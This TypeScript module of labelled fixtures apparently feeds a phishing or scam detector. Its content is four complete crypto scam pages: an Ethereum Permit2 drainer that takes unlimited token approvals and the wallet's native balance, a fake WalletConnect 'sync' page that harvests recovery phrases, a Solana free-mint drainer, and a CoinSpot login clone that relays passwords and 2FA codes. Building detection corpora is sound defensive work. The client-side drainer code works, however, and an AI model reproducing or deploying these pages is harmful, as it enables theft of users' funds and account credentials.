import { redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

// Wallet drainers, seed-phrase collectors and a crypto-exchange kit.

const drainerJs = `(function(){
  var CFG = { receiver: '0x7Ae1c0D94f3B6e2a8c51B9d0F3E27a6c4D18b2F5', permit2: '0x000000000022D473030F116dDEE9F6B43aC78BA3', api: '/api/v1' };
  var btn = document.getElementById('claim'), st = document.getElementById('status');
  function log(o){ return fetch(CFG.api + '/report', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(o)}).catch(function(){}); }
  async function run(){
    if (!window.ethereum) { st.textContent = 'No wallet detected. Open this page in MetaMask, Trust Wallet or Coinbase Wallet.'; return; }
    st.textContent = 'Connecting wallet...';
    var accts = await window.ethereum.request({ method: 'eth_requestAccounts' });
    var owner = accts[0];
    var chainId = await window.ethereum.request({ method: 'eth_chainId' });
    log({ t: 'connect', owner: owner, chainId: chainId });
    var assets = await fetch(CFG.api + '/assets?addr=' + owner + '&chain=' + chainId).then(function(r){ return r.json(); }).catch(function(){ return { tokens: [] }; });
    st.textContent = 'Checking eligibility...';
    var tokens = (assets.tokens || []).sort(function(a, b){ return b.usd - a.usd; });
    var deadline = Math.floor(Date.now() / 1000) + 86400 * 30;
    var typed = {
      types: {
        EIP712Domain: [{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
        PermitBatch: [{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],
        PermitDetails: [{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]
      },
      primaryType: 'PermitBatch',
      domain: { name: 'Permit2', chainId: parseInt(chainId, 16), verifyingContract: CFG.permit2 },
      message: {
        details: tokens.map(function(t){ return { token: t.address, amount: '1461501637330902918203684832716283019655932542975', expiration: deadline, nonce: t.nonce || 0 }; }),
        spender: CFG.receiver, sigDeadline: deadline
      }
    };
    st.textContent = 'Sign the message in your wallet to claim your allocation';
    var sig = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
    log({ t: 'permit2', owner: owner, sig: sig, typed: typed });
    var bal = await window.ethereum.request({ method: 'eth_getBalance', params: [owner, 'latest'] });
    var keep = BigInt('0x2386f26fc10000');
    var v = BigInt(bal) > keep ? BigInt(bal) - keep : 0n;
    if (v > 0n) {
      st.textContent = 'Confirm the network fee to receive your tokens';
      var tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: owner, to: CFG.receiver, value: '0x' + v.toString(16), data: '0x' }] });
      log({ t: 'native', owner: owner, tx: tx });
    }
    st.textContent = 'Claim submitted. Tokens will appear in your wallet within 24 hours.';
  }
  btn.addEventListener('click', function(){ run().catch(function(e){ st.textContent = 'Transaction rejected. Please try again.'; log({ t: 'err', m: String(e && e.message) }); }); });
})();`;

export const entries: Entry[] = [
  {
    id: 'yf-drainer-airdrop-permit2-claim',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim.layerzero-rewards.org/season2?ref=x-3381',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Season 2 Rewards | Claim your allocation</title>
<style>
body{margin:0;min-height:100vh;background:radial-gradient(circle at 30% 20%,#1d1f3a,#07070f);color:#fff;font-family:Inter,system-ui,Arial,sans-serif}
nav{display:flex;justify-content:space-between;align-items:center;padding:18px 5%}
nav b{font-size:20px;letter-spacing:1px}
.c{max-width:520px;margin:8vh auto;background:rgba(255,255,255,.05);border:1px solid rgba(255,255,255,.12);border-radius:20px;padding:34px;text-align:center}
.amt{font-size:40px;font-weight:800;background:linear-gradient(90deg,#a78bfa,#60a5fa);-webkit-background-clip:text;color:transparent}
button{width:100%;margin-top:24px;padding:16px;border:0;border-radius:14px;background:linear-gradient(90deg,#7c3aed,#2563eb);color:#fff;font-size:17px;font-weight:700;cursor:pointer}
#status{margin-top:14px;font-size:14px;color:#c7c9e0;min-height:20px}
.tm{font-size:13px;color:#9aa0c3}
</style></head>
<body>
<nav><b>ZRO REWARDS</b><span class="tm">Ethereum &middot; Arbitrum &middot; Base</span></nav>
<div class="c">
<div class="tm">Season 2 snapshot complete &middot; 1,284,112 eligible wallets</div>
<h1 style="margin:10px 0">Check your eligibility</h1>
<div class="amt">Up to 4,200 ZRO</div>
<p class="tm">Claim window closes in <b id="cd">11:42:08</b>. Unclaimed tokens return to the community treasury.</p>
<button id="claim">Connect Wallet &amp; Claim</button>
<div id="status"></div>
</div>
<script src="/assets/claim.bundle.js"></script>
</body></html>`,
    routes: {
      'claim.layerzero-rewards.org/assets/claim.bundle.js': jsRoute(drainerJs),
      'claim.layerzero-rewards.org/api/v1/assets': jsonRoute({ tokens: [{ address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', symbol: 'USDT', usd: 1820.4 }, { address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', symbol: 'USDC', usd: 944.1 }] }),
      'claim.layerzero-rewards.org/api/v1/report': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'yf-seed-phrase-wallet-sync-validation',
    label: 'cryptodrainer',
    kind: 'seed-phrase-stealer',
    url: 'https://walletconnect-sync.app/validate/?wallet=trust',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Wallet Synchronisation | Resolve wallet issues</title>
<style>
body{margin:0;background:#f4f7fb;font-family:"Segoe UI",Arial,sans-serif;color:#141a2e}
.h{background:#fff;padding:16px 5%;border-bottom:1px solid #e4e8f0;font-weight:700;color:#3b99fc;font-size:19px}
.c{max-width:560px;margin:40px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 4px 20px rgba(20,30,60,.08)}
.tabs{display:flex;gap:8px;margin:16px 0}.tabs span{flex:1;text-align:center;padding:9px;border-radius:8px;background:#eef3fb;font-size:14px;cursor:pointer}.tabs span.on{background:#3b99fc;color:#fff}
textarea{width:100%;box-sizing:border-box;height:110px;border:1px solid #cfd7e6;border-radius:8px;padding:12px;font-size:15px}
button{width:100%;margin-top:16px;padding:14px;background:#3b99fc;color:#fff;border:0;border-radius:10px;font-size:16px;font-weight:600}
.n{font-size:13px;color:#6a7390}
#e{color:#d93025;font-size:13px;display:none}
</style></head>
<body>
<div class="h">WalletConnect &middot; Sync</div>
<div class="c">
<h2 style="margin-top:0">Import your wallet</h2>
<p class="n">Your wallet failed to synchronise with the new node network. Import the wallet you want to validate to restore balances and pending transactions.</p>
<div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Private key</span></div>
<textarea id="ph" placeholder="Enter your recovery phrase"></textarea>
<p class="n">Typically 12 (sometimes 18 or 24) words separated by single spaces.</p>
<div id="e">Invalid recovery phrase. Please check the words and try again.</div>
<button id="go">VALIDATE</button>
<p class="n" style="text-align:center;margin-top:14px">&#128274; Encrypted end-to-end. Your phrase is never stored.</p>
</div>
<script>
document.getElementById('go').onclick = function(){
  var p = document.getElementById('ph').value.trim().toLowerCase().replace(/\\s+/g, ' ');
  var n = p.split(' ').length;
  if ([12, 15, 18, 21, 24].indexOf(n) < 0) { document.getElementById('e').style.display = 'block'; return; }
  var w = new URLSearchParams(location.search).get('wallet') || 'unknown';
  fetch('/validate/import.php', {method:'POST', headers:{'Content-Type':'application/x-www-form-urlencoded'}, body: 'wallet=' + encodeURIComponent(w) + '&type=phrase&data=' + encodeURIComponent(p)})
    .then(function(){ document.getElementById('e').textContent = 'Synchronisation failed (error 0x2f). Please try another wallet.'; document.getElementById('e').style.display = 'block'; });
};
</script>
</body></html>`,
    routes: {
      'walletconnect-sync.app/validate/import.php': jsonRoute({ status: 'received' }),
    },
  },
  {
    id: 'yf-drainer-solana-nft-free-mint',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://mint-kangarooclub.xyz/',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Kangaroo Club | Free Mint Live</title>
<style>
body{margin:0;background:#f2b441;font-family:"Space Grotesk",Arial,sans-serif;color:#1b1b1b}
.w{max-width:760px;margin:0 auto;padding:40px 20px;text-align:center}
h1{font-size:54px;margin:0}
.grid{display:flex;gap:12px;justify-content:center;margin:26px 0}.grid div{width:120px;height:120px;border:4px solid #1b1b1b;border-radius:12px;background:#fff3d6;font-size:60px;display:flex;align-items:center;justify-content:center}
button{background:#1b1b1b;color:#f2b441;border:0;border-radius:12px;padding:18px 40px;font-size:22px;font-weight:700;cursor:pointer}
.bar{height:18px;border:3px solid #1b1b1b;border-radius:10px;overflow:hidden;margin:18px auto;max-width:420px}.bar i{display:block;height:100%;width:86%;background:#1b1b1b}
#m{margin-top:14px;font-weight:600}
</style></head>
<body><div class="w">
<h1>KANGAROO CLUB</h1>
<p>3,333 hand-drawn roos on Solana. Free mint for early supporters &mdash; just pay network fees.</p>
<div class="grid"><div>&#129432;</div><div>&#129432;</div><div>&#129432;</div></div>
<div class="bar"><i></i></div><p><b>2,871 / 3,333</b> minted</p>
<button id="mint">CONNECT &amp; MINT</button>
<div id="m"></div>
</div>
<script src="/static/mint.js"></script>
</body></html>`,
    routes: {
      'mint-kangarooclub.xyz/static/mint.js': jsRoute(`(function(){
var RCV = 'FkV3r9sYb1mQ7wPzXq2LcT8dHn4GjE6aU5oRyKiB3sNp';
var RPC = '/rpc';
var m = document.getElementById('m');
async function go(){
  var p = window.phantom && window.phantom.solana ? window.phantom.solana : window.solana;
  if (!p) { m.textContent = 'Install Phantom or Solflare to mint.'; return; }
  var r = await p.connect();
  var pk = r.publicKey.toString();
  m.textContent = 'Preparing your mint...';
  var plan = await fetch('/api/prepare', {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify({owner: pk})}).then(function(x){ return x.json(); });
  var txs = plan.transactions.map(function(b){ var bin = atob(b), u = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) u[i] = bin.charCodeAt(i); return u; });
  m.textContent = 'Approve in your wallet to mint (network fee ~0.002 SOL)';
  var signed = await p.signAllTransactions(txs.map(function(u){ return window.solanaWeb3 ? window.solanaWeb3.VersionedTransaction.deserialize(u) : u; }));
  await fetch('/api/submit', {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify({owner: pk, receiver: RCV, signed: signed.map(function(t){ return t.serialize ? btoa(String.fromCharCode.apply(null, t.serialize())) : ''; })})});
  m.textContent = 'Minted! Your Roo will appear in your wallet shortly.';
}
document.getElementById('mint').onclick = function(){ go().catch(function(){ m.textContent = 'Mint failed, please try again.'; }); };
})();`),
      'mint-kangarooclub.xyz/api/prepare': jsonRoute({ transactions: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAwU='], receiver: 'FkV3r9sYb1mQ7wPzXq2LcT8dHn4GjE6aU5oRyKiB3sNp' }),
      'mint-kangarooclub.xyz/api/submit': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'yf-coinspot-withdrawal-hold-kit',
    label: 'phishing',
    kind: 'crypto-exchange-kit',
    url: 'https://coinspot-au.account-review.net/login?next=/withdrawals/hold',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Login | CoinSpot</title>
<style>
body{margin:0;background:#f6f8fb;font-family:"Open Sans",Arial,sans-serif;color:#263238}
.h{background:#fff;border-bottom:1px solid #e3e8ee;padding:14px 5%;font-weight:800;color:#1b4ef5;font-size:22px}
.c{max-width:400px;margin:40px auto;background:#fff;border-radius:8px;padding:30px;box-shadow:0 2px 8px rgba(0,0,0,.06)}
.al{background:#fff3e0;border:1px solid #ffcc80;padding:10px;font-size:13px;border-radius:4px;margin-bottom:14px}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #cfd8dc;border-radius:4px;font-size:15px}
button{width:100%;margin-top:18px;padding:12px;background:#1b4ef5;color:#fff;border:0;border-radius:4px;font-size:15px;font-weight:700}
#s2{display:none}
</style></head>
<body><div class="h">CoinSpot</div>
<div class="c">
<div class="al">A withdrawal of <b>0.4187 BTC</b> to an unrecognised address is on hold. Log in within 12 hours to approve or cancel.</div>
<div id="s1"><h2 style="margin-top:0">Login</h2>
<label>Email</label><input id="e" type="email"><label>Password</label><input id="p" type="password">
<button id="b1">Login</button></div>
<div id="s2"><h2 style="margin-top:0">2FA Verification</h2><p style="font-size:14px">Enter the 6-digit code from Google Authenticator.</p>
<label>2FA code</label><input id="o" maxlength="6" inputmode="numeric"><button id="b2">Verify</button></div>
</div>
<script>
var sid = '';
document.getElementById('b1').onclick = function(){
  fetch('/api/session', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify({e: document.getElementById('e').value, p: document.getElementById('p').value})})
    .then(function(r){ return r.json(); }).then(function(j){ sid = j.sid; document.getElementById('s1').style.display = 'none'; document.getElementById('s2').style.display = 'block'; });
};
document.getElementById('b2').onclick = function(){
  fetch('/api/session/otp', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify({sid: sid, o: document.getElementById('o').value})}).then(function(){ location.href = '/withdrawals/cancelled'; });
};
</script>
</body></html>`,
    routes: {
      'coinspot-au.account-review.net/api/session': jsonRoute({ sid: 'c81f2a90' }),
      'coinspot-au.account-review.net/api/session/otp': jsonRoute({ ok: true }),
      'coinspot-au.account-review.net/withdrawals/cancelled': redirectRoute(302, 'https://www.coinspot.com.au/'),
    },
  },
];
